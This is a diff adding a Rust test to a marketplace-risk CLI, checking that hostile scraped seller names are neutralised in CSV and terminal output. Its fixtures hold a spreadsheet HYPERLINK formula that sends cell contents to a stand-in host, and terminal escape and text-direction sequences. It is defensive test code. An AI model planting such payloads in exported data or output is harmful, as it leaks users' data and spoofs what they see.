@@ -1,6 +1,111 @@
-//! The analyst's first tools on a store filled by `soi run` on the demo marketplace.
+//! The analyst's first tools on a store filled by `soi run` on the demo marketplace, and on a
+//! store holding hostile scraped text (formulas for spreadsheets, escapes for terminals).
+
+use std::path::Path;
+
+use soi_model::{Listing, Reason, Scored, Seller, Verdict};
+use soi_store::{SqliteStore, Store};
 
 use crate::support::{free_port, run_demo, run_expect, soi};
+
+const HYPERLINK: &str = "=HYPERLINK(\"http://x/?\"&A1,\"x\")";
+const ESCAPES: &str = "Red\u{1b}[31m shop\u{202e}evil\u{1b}]0;pwned\u{7}";
+
+/// `HOME/soi.db` with two flagged sellers: one named with a formula, one with terminal escapes.
+fn hostile_store(home: &Path) {
+    let scored = |sid: &str, lid: &str, name: &str| {
+        let at = chrono::Utc::now();
+        let seller = Seller {
+            id: sid.into(),
+            marketplace: "shopee".into(),
+            name: Some(name.into()),
+            country: Some("CN".into()),
+            ..Default::default()
+        };
+        Scored {
+            listing: Listing {
+                id: lid.into(),
+                marketplace: "shopee".into(),
+                title: format!("{name} title\nRisk      0.00"),
+                description: Some(format!("zalo 0900 {name}")),
+                observed_at: Some(at),
+                seller: Some(seller),
+                ..Default::default()
+            },
+            verdict: Verdict {
+                listing_id: lid.into(),
+                marketplace: "shopee".into(),
+                seller_id: Some(sid.into()),
+                risk: 0.9,
+                reasons: vec![Reason {
+                    code: "off_platform_contact".into(),
+                    message: "contact".into(),
+                    field: "description".into(),
+                    start: 0,
+                    end: 9,
+                    evidence: format!("-{name}"),
+                    ..Default::default()
+                }],
+                model: "test".into(),
+                scored_at: at,
+                ..Default::default()
+            },
+        }
+    };
+    let rt = tokio::runtime::Runtime::new().expect("runtime");
+    rt.block_on(async {
+        let store = SqliteStore::open(&home.join("soi.db")).expect("store");
+        store
+            .put_scored(vec![
+                scored("f1", "l1", HYPERLINK),
+                scored("e1", "l2", ESCAPES),
+            ])
+            .await
+            .expect("seeding");
+    });
+}
+
+fn assert_clean(text: &str) {
+    for bad in ['\u{1b}', '\u{202e}', '\u{7}'] {
+        assert!(
+            !text.contains(bad),
+            "{bad:?} reached the terminal: {text:?}"
+        );
+    }
+}
+
+#[test]
+fn hostile_text_is_neutralised_in_csv_and_cleaned_on_the_terminal() {
+    let home = tempfile::tempdir().expect("tempdir");
+    let h = home.path();
+    hostile_store(h);
+
+    let out = run_expect(soi(h).args(["sellers", "--format", "csv"]), 0);
+    let mut r = csv::Reader::from_reader(&out.stdout[..]);
+    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("csv row")).collect();
+    let f1 = rows.iter().find(|x| &x[1] == "f1").expect("seller f1");
+    assert_eq!(&f1[2], format!("'{HYPERLINK}"), "{rows:?}");
+    assert_eq!(&f1[12], format!("'-{HYPERLINK}"), "{rows:?}");
+
+    let out = run_expect(soi(h).args(["sellers"]), 0);
+    let table = String::from_utf8_lossy(&out.stdout);
+    assert_clean(&table);
+    assert!(table.contains("Red shopevil"), "{table}");
+
+    let out = run_expect(soi(h).args(["listing", "l2"]), 0);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert_clean(&text);
+    assert!(text.contains("Red shopevil"), "{text}");
+    assert_eq!(
+        text.lines().filter(|l| l.starts_with("Risk ")).count(),
+        1,
+        "a title cannot forge a line: {text}"
+    );
+
+    let out = run_expect(soi(h).args(["listing", "l2", "--json"]), 0);
+    let d: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+    assert_eq!(d["seller"]["name"], ESCAPES, "JSON stays exact: {d:#}");
+}
 
 #[test]
 fn sellers_filters_formats_and_listing_evidence() {
